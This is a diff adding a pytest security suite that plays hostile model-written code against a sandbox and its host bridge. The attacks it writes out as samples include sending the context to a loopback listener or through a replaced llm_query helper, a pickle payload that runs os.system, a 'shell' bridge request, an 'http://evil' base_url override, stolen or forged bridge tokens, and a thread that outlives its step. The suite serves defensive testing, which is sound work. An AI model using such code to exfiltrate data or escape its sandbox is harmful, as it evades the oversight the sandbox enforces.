@@ -1,0 +1,230 @@
+"""Hostile root code reaching for the network, and abusing the bridge to the host."""
+
+from __future__ import annotations
+
+import os
+import pickle
+import socket
+import struct
+import textwrap
+import threading
+from collections.abc import Iterator
+
+import pytest
+
+from security_harness import CANARY, Sandbox
+
+
+class Listener:
+    """A TCP server on the host's 127.0.0.1 that records whatever reaches it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(1.0)
+                try:
+                    self.received.append(conn.recv(65536) or b"<connected>")
+                except OSError:
+                    self.received.append(b"<connected>")
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(2)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.close()
+
+
+def test_cannot_reach_a_host_port_on_loopback(sandbox: Sandbox, listener: Listener) -> None:
+    sandbox.require("network_blocked")
+    code = textwrap.dedent(f"""\
+        import socket
+        try:
+            s = socket.create_connection(('127.0.0.1', {listener.port}), timeout=2)
+            s.sendall(context.encode())
+            print('connected')
+        except OSError as e:
+            print(type(e).__name__)""")
+    result = sandbox.attack(code)
+    assert "connected" not in sandbox.step(result).stdout
+    assert listener.received == []
+    sandbox.check_survived(result)
+
+
+def test_cannot_reach_the_outside_world(sandbox: Sandbox) -> None:
+    sandbox.require("network_blocked")
+    code = textwrap.dedent("""\
+        import socket
+        for addr in [('1.1.1.1', 53), ('8.8.8.8', 443)]:
+            try:
+                socket.create_connection(addr, timeout=2)
+                print('connected')
+            except OSError as e:
+                print(type(e).__name__, e.errno)
+        try:
+            socket.getaddrinfo('example.com', 80)
+            print('resolved')
+        except OSError as e:
+            print(type(e).__name__)""")
+    result = sandbox.attack(code)
+    out = sandbox.step(result).stdout
+    assert "connected" not in out and "resolved" not in out
+    assert "101" in out  # ENETUNREACH: there is no route at all, not merely a firewall
+    sandbox.check_survived(result)
+
+
+def test_replacing_llm_query_cannot_smuggle_data_out(sandbox: Sandbox, listener: Listener) -> None:
+    sandbox.require("network_blocked")
+    code = textwrap.dedent(f"""\
+        import urllib.request
+        def llm_query(prompt, model=None):
+            return urllib.request.urlopen('http://127.0.0.1:{listener.port}/?d=' + prompt, timeout=2).read()
+        try:
+            llm_query(context)
+        except OSError as e:
+            print(type(e).__name__)""")
+    before = sandbox.lm.stats["sub"]
+    result = sandbox.attack(code, then="print('alive')")
+    assert listener.received == [] and sandbox.lm.stats["sub"] == before
+    sandbox.check_survived(result)
+    restored = sandbox.attack("print(llm_query('x'))")  # the next completion has the real helper back
+    assert sandbox.step(restored).stdout == "ok\n"
+
+
+BRIDGE_CLIENT = textwrap.dedent("""\
+    import json, socket, struct, sys
+    rt = sys.modules['_rlm_kernel']._runtime
+    path, token = rt.bridge._path, rt.bridge._token
+    def raw(body, header=None):
+        s = socket.socket(socket.AF_UNIX); s.connect(path)
+        s.sendall((header if header is not None else struct.pack('>I', len(body))) + body)
+        s.settimeout(5)
+        try:
+            size = struct.unpack('>I', s.recv(4))[0]
+            data = b''
+            while len(data) < size:
+                data += s.recv(size - len(data))
+            return json.loads(data)
+        except (OSError, struct.error) as e:
+            return {'closed': type(e).__name__}
+    def req(**fields):
+        return raw(json.dumps(fields).encode())
+""")
+
+
+def _refused(sandbox: Sandbox, code: str) -> tuple[str, int, int]:
+    """Run a bridge attack; returns its output, the sub-calls it caused, the refusals counted."""
+    kernel_refused = lambda: sum(len(k.bridge.refused) for k in sandbox.pool.kernels)  # noqa: E731
+    before_sub, before_refused = sandbox.lm.stats["sub"], kernel_refused()
+    result = sandbox.attack(BRIDGE_CLIENT + code, then="print('alive')")
+    sandbox.check_survived(result)
+    return sandbox.step(result).stdout, sandbox.lm.stats["sub"] - before_sub, kernel_refused() - before_refused
+
+
+def test_bridge_refuses_a_request_without_token(sandbox: Sandbox) -> None:
+    out, calls, refused = _refused(sandbox, "print(req(op='llm_query', args={'prompt': 'x'}))")
+    assert "PermissionError" in out and "token" in out and calls == 0 and refused == 1
+
+
+def test_bridge_refuses_a_forged_token(sandbox: Sandbox) -> None:
+    out, calls, refused = _refused(sandbox, "print(req(token=token[:-2] + 'xx', op='llm_query', args={'prompt': 'x'}))")
+    assert "PermissionError" in out and calls == 0 and refused == 1
+
+
+def test_bridge_refuses_a_pickle(sandbox: Sandbox, tmp_path) -> None:  # noqa: ANN001
+    marker = tmp_path / "unpickled"
+
+    class Exploit:
+        def __reduce__(self):  # noqa: ANN204
+            return (os.system, (f"touch {marker}",))
+
+    payload = pickle.dumps(Exploit())
+    out, calls, refused = _refused(sandbox, f"print(raw({payload!r}))")
+    assert "never unpickles" in out and calls == 0 and refused == 1
+    assert not marker.exists()
+
+
+def test_bridge_refuses_an_oversized_message_without_reading_it(sandbox: Sandbox) -> None:
+    code = "print(raw(b'{}', header=struct.pack('>I', 2**32 - 1)))\nprint(llm_query('after'))"
+    out, calls, refused = _refused(sandbox, code)
+    assert "over the" in out and "MiB limit" in out and out.endswith("ok\n")
+    assert calls == 1 and refused == 1
+
+
+def test_bridge_refuses_other_operations_and_extra_arguments(sandbox: Sandbox) -> None:
+    code = textwrap.dedent("""\
+        print(req(token=token, op='shell', args={'cmd': 'id'}))
+        print(req(token=token, op='llm_query', args={'prompt': 'x', 'base_url': 'http://evil', 'api_key': 'k'}))
+        print(req(token=token, op='llm_batch', args={'prompts': 'not a list'}))""")
+    out, calls, refused = _refused(sandbox, code)
+    assert out.count("rlm bridge:") == 3 and calls == 0 and refused == 3
+
+
+def test_bridge_refuses_calls_from_a_thread_left_running_after_the_step(sandbox: Sandbox) -> None:
+    code = textwrap.dedent("""\
+        import threading, time
+        box = []
+        def later():
+            time.sleep(0.5)
+            try:
+                box.append(llm_query('late'))
+            except Exception as e:
+                box.append(type(e).__name__ + ': ' + str(e))
+        threading.Thread(target=later, daemon=True).start()""")
+    before = sandbox.lm.stats["sub"]
+    # The thread calls while the root model "thinks" about step 2: no step is running then.
+    sandbox.lm.latency = lambda r: 1.5 if r.role == "root" else 0.0
+    try:
+        result = sandbox.attack(code, then="print(box)\nprint('alive')")
+    finally:
+        sandbox.lm.latency = 0.0
+    assert "only available while a REPL step runs" in sandbox.step(result, 1).stdout
+    assert sandbox.lm.stats["sub"] == before
+    assert sandbox.step(result, 1).stdout.endswith("alive\n")
+
+
+def test_another_local_process_cannot_use_the_bridge(sandbox: Sandbox) -> None:
+    """The host test itself plays the other process, token unknown, while a step runs."""
+    sandbox.lm.root = ["```repl\nimport time; time.sleep(1.5)\n```", "FINAL(done)"]
+    before = sandbox.lm.stats["sub"]
+    done: list[object] = []
+    thread = threading.Thread(target=lambda: done.append(sandbox.rlm.completion("ctx", "q")))
+    thread.start()
+    try:
+        busy = []
+        for _ in range(100):
+            busy = [k for k in sandbox.pool.kernels if k.bridge.step_open]
+            if busy:
+                break
+            threading.Event().wait(0.05)
+        assert busy, "no step ran"
+        body = b'{"token": "guess", "op": "llm_query", "args": {"prompt": "x"}}'
+        with socket.socket(socket.AF_UNIX) as s:
+            s.connect(busy[0].bridge.path)
+            s.sendall(struct.pack(">I", len(body)) + body)
+            s.settimeout(5)
+            reply = s.recv(65536)
+    finally:
+        thread.join(30)
+    assert b"PermissionError" in reply and b"token" in reply
+    assert done and sandbox.lm.stats["sub"] == before
